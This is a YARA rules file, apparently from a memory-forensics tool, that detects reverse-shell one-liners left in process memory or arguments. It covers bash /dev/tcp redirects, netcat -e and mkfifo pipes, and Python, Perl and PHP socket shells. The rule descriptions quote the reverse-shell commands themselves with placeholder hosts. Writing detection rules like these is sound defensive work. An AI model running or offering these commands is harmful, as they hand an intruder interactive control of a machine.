// Reverse-shell one-liners, written for podmortem (README "YARA"): the command lines an
// intruder pastes to get a shell back, as they stay in a shell's heap, an interpreter's
// memory or a process's arguments.

rule reverse_shell_dev_tcp
{
    meta:
        description = "An interactive shell redirected to bash's /dev/tcp (or /dev/udp): 'bash -i >& /dev/tcp/HOST/PORT 0>&1', 'exec 5<>/dev/tcp/HOST/PORT'"
        severity = "critical"
        reference = "https://www.gnu.org/software/bash/manual/html_node/Redirections.html"
    strings:
        $interactive = /(ba|z|k|da)?sh +-i +[0-9]?>& *\/dev\/(tcp|udp)\/[A-Za-z0-9._\-]{1,253}\/[0-9]{1,5}/
        $exec_fd = /exec +[0-9]{1,3}<> *\/dev\/(tcp|udp)\/[A-Za-z0-9._\-]{1,253}\/[0-9]{1,5}/
    condition:
        any of them
}

rule reverse_shell_netcat
{
    meta:
        description = "netcat running a shell for its peer ('nc -e /bin/sh HOST PORT', 'ncat -c bash'), or the mkfifo pipe that does the same without -e"
        severity = "critical"
        reference = "https://man.openbsd.org/nc.1"
    strings:
        $exec = /\b(nc|ncat|netcat)(\.traditional|\.openbsd)? +(-[A-Za-z]{1,4} +){0,3}-[ec] +(\/usr)?(\/bin\/)?(ba|z|da)?sh\b/
        $fifo = /mkfifo +\/tmp\/[A-Za-z0-9._]{1,32} *; *(cat|tail -f) +\/tmp\/[A-Za-z0-9._]{1,32} *\| *(\/bin\/)?(ba)?sh +-i/
    condition:
        any of them
}

rule reverse_shell_python_pty
{
    meta:
        description = "A Python one-liner that connects a socket, duplicates it onto stdin/stdout and spawns a shell on a pty"
        severity = "critical"
        reference = "https://docs.python.org/3/library/pty.html#pty.spawn"
    strings:
        $dup2 = /os\.dup2\( *[A-Za-z_]{1,16}\.fileno\(\) *, *([0-2]|[A-Za-z_]{1,8}) *\)/
        $spawn = /pty\.spawn\( *["'](\/bin\/)?(ba|z|da)?sh["']/
        $connect = /\.connect\(\( *["'][A-Za-z0-9._\-]{1,253}["'] *, *[0-9]{1,5} *\)\)/
    condition:
        $spawn and ($dup2 or $connect)
}

rule reverse_shell_perl_socket
{
    meta:
        description = "The Perl one-liner that opens a TCP socket S and makes it the shell's stdin ('open(STDIN,\">&S\")')"
        severity = "critical"
        reference = "https://perldoc.perl.org/functions/socket"
    strings:
        $socket = /socket\( *S *, *PF_INET *, *SOCK_STREAM/
        $stdin = /open\( *STDIN *, *["']>&S["'] *\)/
    condition:
        all of them
}

rule reverse_shell_php_socket
{
    meta:
        description = "The PHP one-liner that opens a socket with fsockopen and runs a shell on descriptor 3 ('exec(\"/bin/sh -i <&3 >&3 2>&3\")')"
        severity = "critical"
        reference = "https://www.php.net/manual/en/function.fsockopen.php"
    strings:
        $open = /fsockopen\( *["'][A-Za-z0-9._\-]{1,253}["'] *, *[0-9]{1,5} *\)/
        $shell = /(exec|shell_exec|system|passthru|popen|proc_open)\( *["'](\/bin\/)?(ba)?sh +-i +<&[0-9]/
    condition:
        all of them
}
